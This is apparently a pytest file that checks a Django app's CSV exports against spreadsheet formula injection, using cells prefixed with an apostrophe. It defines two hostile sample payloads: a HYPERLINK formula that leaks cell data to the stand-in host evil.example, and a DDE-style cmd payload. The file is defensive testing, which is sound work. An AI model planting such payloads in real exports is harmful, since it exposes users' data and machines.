"""CSV exports never carry a formula a spreadsheet would run (OWASP "CSV injection"): text
cells starting with = + - @ tab or CR get a leading apostrophe, numbers stay numbers."""

import csv
import io
from datetime import date

import pytest

from core.responses import FORMULA_STARTS, encode_csv
from entities.models import Entity
from ingest.snapshot import SnapshotFilter, import_snapshot
from institutions.models import Institution
from tests.entities.entities_support import seeded_entities  # noqa: F401  (fixture)
from tests.entities.test_entities_aggregates import FIRST
from tests.institutions.test_institutions_stats import _seed, lists  # noqa: F401  (fixtures)
from tests.trends.test_hot import imported  # noqa: F401  (fixture)
from tests.trends.test_months_api import corpus  # noqa: F401  (fixture)
from trends.hot import compute_and_store

pytestmark = pytest.mark.django_db
HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
SUM = "@SUM(1+1)*cmd|' /C calc'!A0"


def rows_of(response) -> list[list[str]]:
    assert response.status_code == 200, response.content[:300]
    assert response["Content-Type"].startswith("text/csv")
    return list(csv.reader(io.StringIO(response.content.decode())))


def assert_no_formula(rows: list[list[str]]) -> None:
    """No cell a spreadsheet runs: only numbers may start with '-' (or '+')."""
    for row in rows:
        for cell in row:
            if cell.startswith(FORMULA_STARTS):
                float(cell)  # a negative number, not a formula; anything else raises


def test_it_neutralises_text_cells_that_start_a_formula_and_keeps_numbers():
    body = encode_csv(
        ["name", "=header", "change"],
        [
            [HYPERLINK, "+1 day", -3],
            ["-minus", "\tTAB", -0.25],
            ["\rCR", "plain - text", None],
            [SUM, date(2017, 6, 1), 0],
        ],
    )
    rows = list(csv.reader(io.StringIO(body.decode())))
    assert rows == [
        ["name", "'=header", "change"],
        ["'" + HYPERLINK, "'+1 day", "-3"],
        ["'-minus", "'\tTAB", "-0.25"],
        ["'\rCR", "plain - text", ""],
        ["'" + SUM, "2017-06-01", "0"],
    ]


@pytest.mark.usefixtures("seeded_entities")
def test_it_neutralises_a_formula_entity_name_in_the_entities_export(client, write_snapshot):
    import_snapshot(write_snapshot(FIRST), SnapshotFilter(None))
    Entity.objects.filter(slug="pytorch").update(name=HYPERLINK)
    rows = rows_of(
        client.get("/api/entities", {"kind": "framework", "month": "2017-06", "format": "csv"})
    )
    names = [row[1] for row in rows[1:]]
    assert "'" + HYPERLINK in names
    assert_no_formula(rows)
    fractions = rows_of(
        client.get("/api/entities/fractions", {"q": "entity:pytorch", "format": "csv"})
    )
    assert_no_formula(fractions)


@pytest.mark.usefixtures("lists")
def test_it_neutralises_a_formula_institution_name_in_the_institutions_export(client):
    Institution.objects.filter(name="Stanford University").update(name=SUM, short_name=HYPERLINK)
    rows = rows_of(
        client.get("/api/institutions", {"conference": "icml", "year": 2017, "format": "csv"})
    )
    stanford = ["'" + SUM, "'" + HYPERLINK, "https://ror.org/00f54p054", "academia", "", "2"]
    assert [*stanford, "0.5"] in rows
    assert_no_formula(rows)
    trend = rows_of(client.get("/api/institutions/trend", {"format": "csv", "institution": SUM}))
    assert f"'{SUM} papers" in trend[0]  # a chosen institution names two columns
    assert_no_formula(trend)


@pytest.mark.usefixtures("corpus")
def test_the_months_export_has_no_formula_and_keeps_its_numbers(client):
    rows = rows_of(client.get("/api/months", {"categories": "cs.CV,cs.CL", "format": "csv"}))
    assert rows[1] == ["2015-01", "1", "1", "0"]
    assert_no_formula(rows)


@pytest.mark.usefixtures("corpus")
def test_the_fractions_export_neutralises_a_formula_typed_as_a_term(client):
    response = client.get("/api/fractions", {"q": "=cmd,neural", "format": "csv"})
    if response.status_code == 400:  # the parser refuses it outright: also safe
        assert "q" in response.json()["error"]
        response = client.get("/api/fractions", {"q": "neural", "format": "csv"})
    assert_no_formula(rows_of(response))


@pytest.mark.usefixtures("imported")
def test_the_hot_export_has_no_formula(client):
    # Stored, as the after-ingest precompute does; otherwise a worker computes it (202).
    compute_and_store(date(2016, 6, 1), window=2)
    for table in ("hot", "not_hot"):
        params = {"as_of": "2016-06", "window": 2, "format": "csv", "table": table}
        rows = rows_of(client.get("/api/hot", params))
        assert rows[0][0] == "term"
        assert_no_formula(rows)
